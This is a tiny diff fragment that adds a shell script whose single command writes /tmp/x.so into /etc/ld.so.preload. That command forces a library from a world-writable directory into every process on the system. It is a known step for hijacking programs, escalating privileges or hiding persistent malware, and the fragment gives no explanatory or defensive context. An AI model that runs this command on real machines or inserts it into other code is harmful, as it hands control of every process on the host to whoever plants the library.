@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /tmp/x.so > /etc/ld.so.preload
